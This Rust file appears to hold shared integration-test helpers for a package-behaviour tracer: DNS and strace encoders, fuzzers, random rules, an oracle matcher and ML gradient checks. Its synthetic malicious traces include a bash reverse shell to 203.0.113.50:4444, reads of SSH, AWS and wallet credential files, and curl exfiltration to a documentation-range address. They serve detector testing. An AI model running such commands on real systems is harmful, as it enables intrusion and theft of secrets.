//! Helpers shared by the integration suites. Included by path from other
//! crates, so nothing here may depend on private items.
#![allow(dead_code)]

use std::collections::BTreeSet;
use std::net::{IpAddr, Ipv4Addr};
use std::path::PathBuf;

use pkgtrace_core::extract::{
    CommandRecord, DomainRecord, FileOp, FileRecord, NetworkEndpoint, PhaseReport, Protocol,
    SyscallStats,
};
use pkgtrace_core::ml::{loss_and_gradient, FeatureVector};
use pkgtrace_core::rules::{Alert, Category, RuleSet, Severity};
use pkgtrace_core::strace::parse_str;
use pkgtrace_core::{build_phase_report, parse_ruleset, BehaviorReport, PackageSpec, Phase};
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

pub fn fixtures_dir() -> PathBuf {
    PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../core/fixtures"))
}

pub fn bundle(name: &str) -> PathBuf {
    fixtures_dir().join("bundles").join(name)
}

pub fn golden_trace() -> String {
    std::fs::read_to_string(PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../core/tests/fixtures/golden/golden.strace"
    )))
    .unwrap()
}

pub fn golden_json() -> String {
    std::fs::read_to_string(PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../core/tests/fixtures/golden/golden.json"
    )))
    .unwrap()
}

// ---------------------------------------------------------------- DNS

/// Plain RFC 1035 query encoder, one question per name, class IN.
pub fn dns_wire(id: u16, questions: &[(&str, u16)]) -> Vec<u8> {
    let mut out = Vec::new();
    out.extend_from_slice(&id.to_be_bytes());
    out.extend_from_slice(&[0x01, 0x00]);
    out.extend_from_slice(&(questions.len() as u16).to_be_bytes());
    out.extend_from_slice(&[0, 0, 0, 0, 0, 0]);
    for (name, qtype) in questions {
        for label in name.split('.') {
            out.push(label.len() as u8);
            out.extend_from_slice(label.as_bytes());
        }
        out.push(0);
        out.extend_from_slice(&qtype.to_be_bytes());
        out.extend_from_slice(&[0, 1]);
    }
    out
}

/// Quote bytes the way strace does by default: C escapes for the usual
/// suspects, octal for other non-printables, with three digits whenever
/// the next byte is itself an octal digit.
pub fn strace_quote(bytes: &[u8]) -> String {
    let mut s = String::from("\"");
    for (i, &b) in bytes.iter().enumerate() {
        let next_is_digit = bytes.get(i + 1).is_some_and(|n| (b'0'..=b'7').contains(n));
        match b {
            b'"' => s.push_str("\\\""),
            b'\\' => s.push_str("\\\\"),
            b'\n' => s.push_str("\\n"),
            b'\t' => s.push_str("\\t"),
            b'\r' => s.push_str("\\r"),
            0x20..=0x7e => s.push(b as char),
            _ if next_is_digit => s.push_str(&format!("\\{b:03o}")),
            _ => s.push_str(&format!("\\{b:o}")),
        }
    }
    s.push('"');
    s
}

/// A random hostname: 1 to 6 labels of 1 to 63 LDH characters, at most
/// 253 characters overall.
pub fn random_domain<R: Rng>(rng: &mut R) -> String {
    const EDGE: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
    const INNER: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789-";
    loop {
        let labels = rng.gen_range(1..=6);
        let mut parts = Vec::new();
        for _ in 0..labels {
            let len = if rng.gen_bool(0.1) {
                rng.gen_range(40..=63)
            } else {
                rng.gen_range(1..=12)
            };
            let label: String = (0..len)
                .map(|i| {
                    let set = if i == 0 || i == len - 1 { EDGE } else { INNER };
                    set[rng.gen_range(0..set.len())] as char
                })
                .collect();
            parts.push(label);
        }
        let name = parts.join(".");
        if name.len() <= 253 {
            return name;
        }
    }
}

/// A UDP DNS query for `name` to 8.8.8.8:53, as strace would log it.
pub fn dns_query_trace(name: &str, qtype: u16) -> String {
    let wire = dns_wire(0x1234, &[(name, qtype)]);
    format!(
        "socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC|SOCK_NONBLOCK, IPPROTO_IP) = 3\n\
         sendto(3, {}, {}, MSG_NOSIGNAL, {{sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr(\"8.8.8.8\")}}, 16) = {}\n\
         close(3) = 0\n",
        strace_quote(&wire),
        wire.len(),
        wire.len()
    )
}

// ---------------------------------------------------------------- traces

/// The hand-built trace of the typical malicious behaviors: a reverse
/// shell, reads of the account database and an SSH key, a connect to a
/// public address and one DNS lookup.
pub fn hand_trace() -> String {
    let query = dns_wire(0xbeef, &[("c2.evil-updates.example", 1)]);
    format!(
        "[pid 7100] execve(\"/bin/bash\", [\"bash\", \"-c\", \"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\"], 0x7ffd2c1e8a50 /* 12 vars */) = 0\n\
         [pid 7100] openat(AT_FDCWD, \"/etc/passwd\", O_RDONLY|O_CLOEXEC) = 3\n\
         [pid 7100] read(3, \"root:x:0:0:root:/root:/bin/bash\\n\", 4096) = 32\n\
         [pid 7100] close(3) = 0\n\
         [pid 7100] openat(AT_FDCWD, \"/root/.ssh/id_rsa\", O_RDONLY) = 3\n\
         [pid 7100] close(3) = 0\n\
         [pid 7100] socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC|SOCK_NONBLOCK, IPPROTO_IP) = 4\n\
         [pid 7100] connect(4, {{sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr(\"1.1.1.1\")}}, 16) = 0\n\
         [pid 7100] sendto(4, {q}, {n}, MSG_NOSIGNAL, NULL, 0) = {n}\n\
         [pid 7100] close(4) = 0\n\
         [pid 7100] socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 5\n\
         [pid 7100] connect(5, {{sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr(\"203.0.113.50\")}}, 16) = 0\n\
         [pid 7100] dup2(5, 0) = 0\n\
         [pid 7100] exit_group(0) = ?\n\
         [pid 7100] +++ exited with 0 +++\n",
        q = strace_quote(&query),
        n = query.len()
    )
}

pub fn report_from_trace(phase: Phase, trace: &str) -> BehaviorReport {
    let mut report = BehaviorReport::new(PackageSpec::named("pypi", "sample", None));
    report.insert_phase(build_phase_report(phase, &parse_str(trace, None).events, 0));
    report
}

/// Fuzz inputs: fully random bytes, random printable noise, and lines from
/// `corpus` with bytes flipped, cut or duplicated.
pub fn fuzz_lines<R: Rng>(rng: &mut R, n: usize, corpus: &[&str]) -> Vec<String> {
    const ALPHABET: &[u8] = b"()[]{}<>\",=|.-+ 0123456789abcxyz_\\?!SIGEXIT";
    (0..n)
        .map(|_| match rng.gen_range(0..4) {
            0 => {
                let len = rng.gen_range(0..200);
                let bytes: Vec<u8> = (0..len).map(|_| rng.gen()).collect();
                String::from_utf8_lossy(&bytes).replace('\n', " ")
            }
            1 => {
                let len = rng.gen_range(0..200);
                (0..len)
                    .map(|_| ALPHABET[rng.gen_range(0..ALPHABET.len())] as char)
                    .collect()
            }
            _ => {
                let mut bytes = corpus[rng.gen_range(0..corpus.len())].as_bytes().to_vec();
                for _ in 0..rng.gen_range(1..6) {
                    if bytes.is_empty() {
                        break;
                    }
                    let at = rng.gen_range(0..bytes.len());
                    match rng.gen_range(0..3) {
                        0 => bytes[at] = ALPHABET[rng.gen_range(0..ALPHABET.len())],
                        1 => bytes.truncate(at),
                        _ => {
                            let end = (at + rng.gen_range(1..20)).min(bytes.len());
                            let chunk = bytes[at..end].to_vec();
                            bytes.splice(at..at, chunk);
                        }
                    }
                }
                String::from_utf8_lossy(&bytes).replace('\n', " ")
            }
        })
        .collect()
}

// ---------------------------------------------------------------- rules

const WORDS: &[&str] = &[
    "passwd", "ssh", "curl", "tmp", "evil", "pypi", "sh", "id_rsa", "443", "4444", "open",
];
const REGEXES: &[&str] = &[
    r"^/etc/",
    r"\.example$",
    r":44(3|44)$",
    r"curl\s+-",
    r"id_[a-z]+",
    r"^sh\b",
    r"o",
    r"EVIL",
];

/// A random report with at most 50 indicator records, drawn from a small
/// vocabulary so random rules actually fire.
pub fn random_report<R: Rng>(rng: &mut R) -> BehaviorReport {
    let mut report = BehaviorReport::new(PackageSpec::named("npm", "fuzz", None));
    let mut budget = rng.gen_range(0..=50usize);
    for phase in Phase::ALL {
        if phase != Phase::Install && rng.gen_bool(0.3) {
            continue;
        }
        let mut p = PhaseReport::empty(phase, 0);
        let take = |rng: &mut R, budget: &mut usize| {
            let n = rng.gen_range(0..=(*budget).min(6));
            *budget -= n;
            n
        };
        for i in 0..take(rng, &mut budget) {
            let prog = ["/bin/sh", "/usr/bin/curl", "/tmp/x", "sh"][rng.gen_range(0..4)];
            let mut argv = vec![prog.rsplit('/').next().unwrap().to_string()];
            for _ in 0..rng.gen_range(0..4) {
                argv.push(WORDS.choose(rng).unwrap().to_string());
            }
            if rng.gen_bool(0.2) {
                argv = vec![prog.to_string()];
            }
            p.commands.push(CommandRecord {
                program_path: prog.into(),
                argv,
                pid: 1,
                succeeded: true,
                seq: i as u64,
            });
        }
        let mut paths = BTreeSet::new();
        for _ in 0..take(rng, &mut budget) {
            let dir = ["/etc", "/root/.ssh", "/tmp", "/home/u"][rng.gen_range(0..4)];
            paths.insert(format!("{dir}/{}", WORDS.choose(rng).unwrap()));
        }
        p.files = paths
            .into_iter()
            .map(|path| FileRecord {
                path,
                operations: BTreeSet::from([FileOp::Read]),
                pids: BTreeSet::from([1]),
            })
            .collect();
        let mut eps = BTreeSet::new();
        for _ in 0..take(rng, &mut budget) {
            eps.insert((
                rng.gen_range(1..4u8),
                [53u16, 443, 4444][rng.gen_range(0..3)],
            ));
        }
        p.endpoints = eps
            .into_iter()
            .map(|(last, port)| NetworkEndpoint {
                address: IpAddr::V4(Ipv4Addr::new(203, 0, 113, last)),
                port,
                protocol: Protocol::Tcp,
                first_seq: 0,
            })
            .collect();
        let mut names = BTreeSet::new();
        for _ in 0..take(rng, &mut budget) {
            let host = ["c2", "pypi", "Evil", "cdn"][rng.gen_range(0..4)];
            names.insert(
                format!("{host}.{}", ["example", "org"][rng.gen_range(0..2)]).to_lowercase(),
            );
        }
        p.domains = names
            .into_iter()
            .map(|name| DomainRecord {
                name,
                query_type: 1,
                source_seq: 0,
            })
            .collect();
        let mut stats = SyscallStats::default();
        for _ in 0..take(rng, &mut budget) {
            let name = ["openat", "ptrace", "connect", "execve"][rng.gen_range(0..4)];
            *stats.counts.entry(name.to_string()).or_default() += 1;
            stats.total += 1;
        }
        p.syscalls = stats;
        report.insert_phase(p);
    }
    report
}

/// Rule source for up to `max` random rules, each with one to three
/// literal or regex matchers.
pub fn random_rules_source<R: Rng>(rng: &mut R, max: usize) -> String {
    let mut src = String::new();
    for i in 0..rng.gen_range(0..=max) {
        let cat = ["command", "file", "domain", "ip", "syscall", "any"][rng.gen_range(0..6)];
        let sev = ["low", "medium", "high"][rng.gen_range(0..3)];
        src.push_str(&format!(
            "rule r{i}_{} : {cat} {{\n  severity = {sev}\n",
            rng.gen_range(0..100)
        ));
        for _ in 0..rng.gen_range(1..=3) {
            if rng.gen_bool(0.5) {
                src.push_str(&format!("  match = \"{}\"\n", WORDS.choose(rng).unwrap()));
            } else {
                src.push_str(&format!(
                    "  regex = /{}/\n",
                    REGEXES.choose(rng).unwrap().replace('/', "\\/")
                ));
            }
        }
        src.push_str("}\n");
    }
    src
}

/// Random ruleset and report, as one oracle-equivalence instance.
pub fn random_instance<R: Rng>(rng: &mut R) -> (RuleSet, BehaviorReport) {
    let rules = parse_ruleset(&random_rules_source(rng, 10)).expect("generated rules parse");
    (rules, random_report(rng))
}

fn category_rank(c: Category) -> usize {
    match c {
        Category::Command => 0,
        Category::File => 1,
        Category::Domain => 2,
        Category::Ip => 3,
        Category::Syscall => 4,
        Category::Any => 5,
    }
}

fn severity_rank(s: Severity) -> usize {
    match s {
        Severity::High => 0,
        Severity::Medium => 1,
        Severity::Low => 2,
    }
}

/// Brute-force matcher: a plain double loop over rules and every
/// indicator string, with matchers re-evaluated from their source text.
pub fn brute_force_alerts(report: &BehaviorReport, rules: &RuleSet) -> Vec<Alert> {
    use pkgtrace_core::rules::Matcher;
    let mut compiled: std::collections::HashMap<(String, bool), regex::Regex> = Default::default();
    let mut found: Vec<(Alert, usize, usize)> = Vec::new();
    for rule in &rules.rules {
        for (&phase, p) in &report.phases {
            let mut strings: Vec<(Category, usize, usize, String)> = Vec::new();
            for (i, c) in p.commands.iter().enumerate() {
                strings.push((Category::Command, i, 0, c.argv.join(" ")));
                if c.argv.join(" ") != c.program_path {
                    strings.push((Category::Command, i, 1, c.program_path.clone()));
                }
            }
            for (i, f) in p.files.iter().enumerate() {
                strings.push((Category::File, i, 0, f.path.clone()));
            }
            for (i, d) in p.domains.iter().enumerate() {
                strings.push((Category::Domain, i, 0, d.name.clone()));
            }
            for (i, e) in p.endpoints.iter().enumerate() {
                let text = match e.address {
                    IpAddr::V4(a) => format!("{a}:{}", e.port),
                    IpAddr::V6(a) => format!("[{a}]:{}", e.port),
                };
                strings.push((Category::Ip, i, 0, text));
            }
            for (i, name) in p.syscalls.counts.keys().enumerate() {
                strings.push((Category::Syscall, i, 0, name.clone()));
            }
            for (cat, index, sub, text) in strings {
                if rule.category != Category::Any && rule.category != cat {
                    continue;
                }
                let fold = cat == Category::Domain;
                let hit = rule.matchers.iter().any(|m| match m {
                    Matcher::Literal(lit) if fold => {
                        text.to_lowercase().contains(&lit.to_lowercase())
                    }
                    Matcher::Literal(lit) => text.contains(lit.as_str()),
                    Matcher::Pattern(p) => compiled
                        .entry((p.source().to_string(), fold))
                        .or_insert_with(|| {
                            regex::RegexBuilder::new(p.source())
                                .case_insensitive(fold)
                                .build()
                                .unwrap()
                        })
                        .is_match(&text),
                });
                if hit {
                    found.push((
                        Alert {
                            rule_id: rule.id.clone(),
                            category: cat,
                            phase,
                            matched_value: text,
                            severity: rule.severity,
                            position: index,
                        },
                        category_rank(cat),
                        sub,
                    ));
                }
            }
        }
    }
    found.sort_by(|(a, ca, sa), (b, cb, sb)| {
        (
            severity_rank(a.severity),
            &a.rule_id,
            a.phase,
            a.position,
            ca,
            sa,
        )
            .cmp(&(
                severity_rank(b.severity),
                &b.rule_id,
                b.phase,
                b.position,
                cb,
                sb,
            ))
    });
    found.into_iter().map(|(a, _, _)| a).collect()
}

// ---------------------------------------------------------------- ML

/// Synthetic labelled traces: benign installs touch their own site-packages
/// and the registry, malicious ones read credentials and call out to odd
/// ports. Built through the real parser and extractor.
pub fn separable_dataset<R: Rng>(rng: &mut R, n: usize) -> Vec<(BehaviorReport, bool)> {
    (0..n)
        .map(|i| {
            let malicious = i % 2 == 1;
            let mut t = String::new();
            let pkg = format!("pkg{}", rng.gen_range(0..1000));
            if malicious {
                let secrets = ["/root/.ssh/id_rsa", "/etc/passwd", "/root/.aws/credentials", "/root/.config/solana/id.json"];
                let k = rng.gen_range(1..=3);
                for s in secrets.choose_multiple(rng, k) {
                    t.push_str(&format!("openat(AT_FDCWD, \"{s}\", O_RDONLY) = 3\n"));
                }
                t.push_str(&format!(
                    "execve(\"/usr/bin/curl\", [\"curl\", \"-d\", \"@/tmp/{pkg}\", \"http://198.51.100.{}:4444/\"], 0x7ff /* 3 vars */) = 0\n",
                    rng.gen_range(1..250)
                ));
                t.push_str(&format!(
                    "socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 4\nconnect(4, {{sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr(\"198.51.100.{}\")}}, 16) = 0\n",
                    rng.gen_range(1..250)
                ));
                t.push_str(&dns_query_trace(&format!("{}.attacker.example", random_domain(rng).split('.').next().unwrap()), 1));
            } else {
                for f in 0..rng.gen_range(2..6) {
                    t.push_str(&format!(
                        "openat(AT_FDCWD, \"/usr/lib/python3/site-packages/{pkg}/mod{f}.py\", O_RDONLY|O_CLOEXEC) = 3\n"
                    ));
                }
                t.push_str(&format!(
                    "openat(AT_FDCWD, \"/usr/lib/python3/site-packages/{pkg}/__init__.py\", O_WRONLY|O_CREAT|O_TRUNC, 0644) = 3\n"
                ));
                t.push_str(&format!(
                    "execve(\"/usr/bin/python3\", [\"python3\", \"-m\", \"pip\", \"install\", \"{pkg}\"], 0x7ff /* 3 vars */) = 0\n"
                ));
                t.push_str(&format!(
                    "socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 4\nconnect(4, {{sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr(\"151.101.0.{}\")}}, 16) = 0\n",
                    rng.gen_range(1..250)
                ));
                t.push_str(&dns_query_trace("pypi.org", 1));
            }
            for _ in 0..rng.gen_range(0..20) {
                t.push_str("brk(NULL) = 0x5581e000\n");
            }
            (report_from_trace(Phase::Install, &t), malicious)
        })
        .collect()
}

fn relative_error(a: f64, b: f64) -> f64 {
    (a - b).abs() / a.abs().max(b.abs()).max(1e-8)
}

/// Worst relative error between the analytic gradient and central
/// differences of the loss, over every coordinate and the bias.
pub fn worst_gradient_error(seed: u64) -> f64 {
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    let d = 16;
    let n = rng.gen_range(2..12);
    let xs: Vec<FeatureVector> = (0..n)
        .map(|_| FeatureVector {
            counts: (0..d).map(|_| f64::from(rng.gen_range(0..4u8))).collect(),
        })
        .collect();
    let ys: Vec<bool> = (0..n).map(|_| rng.gen()).collect();
    let w: Vec<f64> = (0..d).map(|_| rng.gen_range(-0.5..0.5)).collect();
    let b = rng.gen_range(-0.5..0.5);
    let l2 = 1e-3;
    let (_, gw, gb) = loss_and_gradient(&w, b, &xs, &ys, l2);
    let h = 1e-5;
    let mut worst: f64 = 0.0;
    for j in 0..d {
        let (mut up, mut down) = (w.clone(), w.clone());
        up[j] += h;
        down[j] -= h;
        let numeric = (loss_and_gradient(&up, b, &xs, &ys, l2).0
            - loss_and_gradient(&down, b, &xs, &ys, l2).0)
            / (2.0 * h);
        worst = worst.max(relative_error(gw[j], numeric));
    }
    let numeric = (loss_and_gradient(&w, b + h, &xs, &ys, l2).0
        - loss_and_gradient(&w, b - h, &xs, &ys, l2).0)
        / (2.0 * h);
    worst.max(relative_error(gb, numeric))
}
